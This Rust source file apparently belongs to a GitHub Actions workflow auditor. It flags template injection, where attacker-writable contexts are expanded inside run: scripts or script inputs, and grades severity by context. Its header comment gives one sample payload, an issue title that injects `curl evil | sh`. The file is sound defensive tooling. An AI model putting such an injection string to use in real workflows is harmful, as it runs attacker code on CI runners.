//! Expressions are pasted into scripts before the shell or JavaScript sees
//! them, so an attacker-written issue title such as `"; curl evil | sh #`
//! becomes code. The fix is to pass the value through `env:` and quote it.
//!
//! Each `${{ }}` in a script sink is parsed with `github-actions-expressions`
//! and judged by the contexts whose value flows into the result (so
//! `github.event.issue.title == 'x'` is a boolean and harmless), as zizmor
//! does: free text is high, refs and URLs medium, string inputs medium, env
//! values and matrix entries set by expressions low or medium, other step
//! and job outputs informational. Secrets, numbers, SHAs and values set
//! literally in the workflow are not reported.

use github_actions_expressions::Expr;
use github_actions_expressions::context::Context;
use github_actions_models::common::expr::LoE;
use github_actions_models::common::{Env, EnvValue, If, Uses};
use github_actions_models::workflow::event::{
    OptionalBody, WorkflowCallInputType, WorkflowDispatchInputType,
};
use github_actions_models::workflow::job::NormalJob;
use keepopen_findings::{Confidence, Severity};

use crate::capability::{self, Capability};
use crate::context::{Ctx, JobStep, StepRef, finding_at, input};
use crate::expr::{fenced, has_expression};
use crate::locate::Locator;
use crate::{AuditInfo, Finding};

pub(crate) const INFO: AuditInfo = AuditInfo {
    id: "workflow-template-injection",
    name: "Template injection",
    description: "Attacker-controllable contexts expanded with ${{ }} inside run: scripts or script inputs of actions such as github-script can inject commands.",
    severity: Severity::High,
    fix: "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and quote it in the script (`\"$TITLE\"`); never expand `${{ }}` inside `run:` or a script input.",
};

/// Actions whose inputs are run as code: (action, inputs).
const SINKS: &[(&str, &[&str])] = &[
    ("actions/github-script", &["script"]),
    ("azure/cli", &["inlineScript"]),
    ("azure/powershell", &["inlineScript"]),
    ("appleboy/ssh-action", &["script"]),
    ("amadevus/pwsh-script", &["script"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("addnab/docker-run-action", &["options", "run"]),
];

/// What decides, where a script runs, whether a context can carry outside
/// text: a workflow job's step, or a composite action's step.
pub(crate) trait Scope {
    /// Whether input `name` has a type that cannot carry text; `None` when
    /// no type is declared.
    fn input_is_fixed(&self, name: &str) -> Option<bool>;
    /// Whether `env.NAME` is set literally, with no expression.
    fn env_is_static(&self, name: &str) -> bool;
    /// Whether the matrix is written out literally; `None` without one.
    fn matrix_is_static(&self) -> Option<bool>;
    /// Whether the job or step runs only for pull requests from this
    /// repository's own branches (an `if:` that skips forks).
    fn skips_forks(&self) -> bool {
        false
    }
}

struct JobScope<'a, 'b> {
    cx: &'a Ctx<'b>,
    js: &'a JobStep<'b>,
}

impl Scope for JobScope<'_, '_> {
    fn input_is_fixed(&self, name: &str) -> Option<bool> {
        input_is_fixed(self.cx, name)
    }
    fn env_is_static(&self, name: &str) -> bool {
        env_is_static(self.cx, self.js, name)
    }
    fn matrix_is_static(&self) -> Option<bool> {
        matrix_is_static(self.js.job)
    }
    fn skips_forks(&self) -> bool {
        let step_if = match self.js.step {
            StepRef::Uses(u) => &u.shared.r#if,
            StepRef::Run(r) => &r.shared.r#if,
        };
        [&self.js.job.r#if, step_if]
            .into_iter()
            .flatten()
            .any(|c| matches!(c, If::Expr(e) if is_fork_guard(e)))
    }
}

/// Whether a condition lets a pull request's job run only when its head is
/// in this repository (`head.repo.full_name == github.repository`, or
/// `!head.repo.fork`), in a conjunction: a guard `||`-ed with anything
/// else, or negated, guards nothing.
pub(crate) fn is_fork_guard(condition: &str) -> bool {
    let c: String = condition
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect::<String>()
        .to_ascii_lowercase();
    if c.contains("||") || c.contains("!(") {
        return false;
    }
    const HEAD: &str = "github.event.pull_request.head.repo";
    [
        format!("{HEAD}.full_name==github.repository"),
        format!("github.repository=={HEAD}.full_name"),
        format!("{HEAD}.fork==false"),
        format!("false=={HEAD}.fork"),
        format!("{HEAD}.fork!=true"),
    ]
    .iter()
    .any(|g| c.contains(g.as_str()))
        || c.match_indices(&format!("!{HEAD}.fork")).any(|(i, m)| {
            // `!head.repo.fork`, not `!head.repo.fork_something`.
            !c[i + m.len()..].starts_with(|ch: char| ch.is_ascii_alphanumeric() || ch == '_')
        })
}

/// Contexts a pull request's author writes: the branch name and the pull
/// request's own fields.
fn written_by_pull_request(pattern: &str) -> bool {
    pattern == "github.head_ref" || pattern.starts_with("github.event.pull_request.")
}

pub(crate) fn run(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
    for js in cx.job_steps() {
        let scope = JobScope { cx, js: &js };
        for (location, script) in scripts(&js) {
            injections(&scope, &cx.loc, &location, &script, out);
        }
    }
}

/// The findings for every expression in `script`, at `location`.
pub(crate) fn injections(
    scope: &dyn Scope,
    loc: &Locator<'_>,
    location: &str,
    script: &str,
    out: &mut Vec<Finding>,
) {
    let mut seen: Vec<&str> = Vec::new();
    let mut names: Vec<String> = Vec::new();
    for e in fenced(script) {
        let needle = e.raw.lines().next().unwrap_or(e.raw);
        let nth = seen.iter().filter(|s| **s == needle).count();
        seen.push(needle);
        let Ok(parsed) = Expr::parse(e.body) else {
            continue;
        };
        for (context, _) in parsed.dataflow_contexts() {
            let Some((mut severity, confidence)) = judge(scope, context) else {
                continue;
            };
            let name = context
                .as_pattern()
                .unwrap_or_else(|| e.body.trim().to_owned());
            let mut message =
                format!("`{name}` is expanded into a script; pass it through env: instead");
            if severity > Severity::Low && written_by_pull_request(&name) && scope.skips_forks() {
                severity = Severity::Low;
                message.push_str(
                    " (the job skips pull requests from forks, so only people who can push to this repository write it)",
                );
            }
            let mut f = finding_at(
                loc,
                &INFO,
                severity,
                confidence,
                location.to_owned(),
                None,
                message,
            );
            f.line = loc.line_of_nth(location, needle, nth);
            let again = names.iter().filter(|n| **n == name).count();
            f.key = match again {
                0 => format!("{location} ({name})"),
                n => format!("{location} ({name} #{})", n + 1),
            };
            names.push(name);
            out.push(f);
        }
    }
}

/// The script sinks of a step, with their yamlpaths.
fn scripts(js: &JobStep<'_>) -> Vec<(String, String)> {
    match js.step {
        StepRef::Run(r) => vec![(format!("{}.run", js.path), r.run.clone())],
        StepRef::Uses(u) => sink_inputs(&u.uses)
            .iter()
            .filter_map(|name| input(u, name).map(|s| (format!("{}.with.{name}", js.path), s)))
            .collect(),
    }
}

/// The inputs of `uses` that run as code.
pub(crate) fn sink_inputs(uses: &Uses) -> &'static [&'static str] {
    match uses {
        Uses::Repository(r) => SINKS
            .iter()
            .find(|(action, _)| r.slug().eq_ignore_ascii_case(action))
            .map_or(&[], |(_, inputs)| *inputs),
        _ => &[],
    }
}

/// Severity and confidence of expanding `context` where `scope` says, or
/// `None` when the value cannot carry an injection.
fn judge(scope: &dyn Scope, context: &Context<'_>) -> Option<(Severity, Confidence)> {
    let Some(pattern) = context.as_pattern() else {
        // A call followed by a path, e.g. `fromJSON(x).y`: unknown content.
        return Some((Severity::Info, Confidence::Low));
    };
    if context.child_of("inputs") || context.child_of("github.event.inputs") {
        let name = pattern.rsplit('.').next().unwrap_or_default();
        return match scope.input_is_fixed(name) {
            Some(true) => None,
            Some(false) => Some((Severity::Medium, Confidence::High)),
            None => Some((Severity::Low, Confidence::Low)),
        };
    }
    if let Some(c) = capability::of(&pattern) {
        return match c {
            Capability::Fixed => None,
            Capability::Structured => Some((Severity::Medium, Confidence::High)),
            Capability::Arbitrary => Some((Severity::High, Confidence::High)),
        };
    }
    if context.child_of("secrets")
        || context.matches("needs.*.result")
        || context.matches("steps.*.outcome")
        || context.matches("steps.*.conclusion")
        || context.child_of("job.status")
        || context.child_of("strategy")
    {
        return None;
    }
    if context.child_of("env") {
        let name = context.single_tail()?;
        return (!scope.env_is_static(name)).then_some((Severity::Low, Confidence::High));
    }
    if context.child_of("matrix") {
        let static_matrix = scope.matrix_is_static()?;
        return (!static_matrix).then_some((Severity::Medium, Confidence::Medium));
    }
    // Step and job outputs, `vars`, and the rest: usually written by the
    // workflow itself, but may carry outside text.
    Some((Severity::Info, Confidence::Low))
}

/// Whether a `workflow_dispatch` or `workflow_call` input of this name has
/// a type that cannot carry text (boolean, number, choice, environment);
/// `None` when no trigger declares it.
fn input_is_fixed(cx: &Ctx<'_>, name: &str) -> Option<bool> {
    let events = &cx.wf.on.events;
    let mut found = None;
    if let OptionalBody::Body(d) = &events.workflow_dispatch
        && let Some((_, i)) = d.inputs.iter().find(|(k, _)| k.eq_ignore_ascii_case(name))
    {
        found = Some(!matches!(i.r#type, WorkflowDispatchInputType::String));
    }
    if let OptionalBody::Body(c) = &events.workflow_call
        && let Some((_, i)) = c.inputs.iter().find(|(k, _)| k.eq_ignore_ascii_case(name))
    {
        let fixed = !matches!(i.r#type, WorkflowCallInputType::String);
        found = Some(found.unwrap_or(true) && fixed);
    }
    found
}

/// Whether `env.NAME` is set, in the step, job or workflow `env:`, to a
/// value with no expression. Anything else (set by `$GITHUB_ENV`, by an
/// expression, or by a whole-map expression) may carry outside text.
fn env_is_static(cx: &Ctx<'_>, js: &JobStep<'_>, name: &str) -> bool {
    env_entry_is_static(js.step.env(), name)
        .or_else(|| env_entry_is_static(&js.job.env, name))
        .or_else(|| env_entry_is_static(&cx.wf.env, name))
        .unwrap_or(false)
}

/// Whether one `env:` map sets `name` with no expression; `None` when it
/// does not set it, `Some(false)` when the whole map is an expression.
pub(crate) fn env_entry_is_static(env: &LoE<Env>, name: &str) -> Option<bool> {
    match env {
        LoE::Expr(_) => Some(false),
        LoE::Literal(map) => map
            .get(name)
            .map(|v| !matches!(v, EnvValue::String(s) if has_expression(s))),
    }
}

/// Whether the job's matrix is written out literally, with no expression
/// in it; `None` when the job has no matrix.
fn matrix_is_static(job: &NormalJob) -> Option<bool> {
    let matrix = job.strategy.as_ref()?.matrix.as_ref()?;
    let LoE::Literal(m) = matrix else {
        return Some(false);
    };
    let values = |v: &yaml_serde::Value| !yaml_has_expression(v);
    let dims = match &m.dimensions {
        LoE::Expr(_) => false,
        LoE::Literal(dims) => dims.values().all(|d| match d {
            LoE::Expr(_) => false,
            LoE::Literal(list) => list.iter().all(values),
        }),
    };
    let include = match &m.include {
        LoE::Expr(_) => false,
        LoE::Literal(entries) => entries.iter().all(|e| e.values().all(values)),
    };
    Some(dims && include)
}

/// Whether any string in a YAML value holds an expression.
fn yaml_has_expression(v: &yaml_serde::Value) -> bool {
    use yaml_serde::Value;
    match v {
        Value::String(s) => has_expression(s),
        Value::Sequence(items) => items.iter().any(yaml_has_expression),
        Value::Mapping(map) => map
            .iter()
            .any(|(k, v)| yaml_has_expression(k) || yaml_has_expression(v)),
        Value::Tagged(t) => yaml_has_expression(&t.value),
        _ => false,
    }
}

#[cfg(test)]
#[path = "template_injection_tests.rs"]
mod tests;
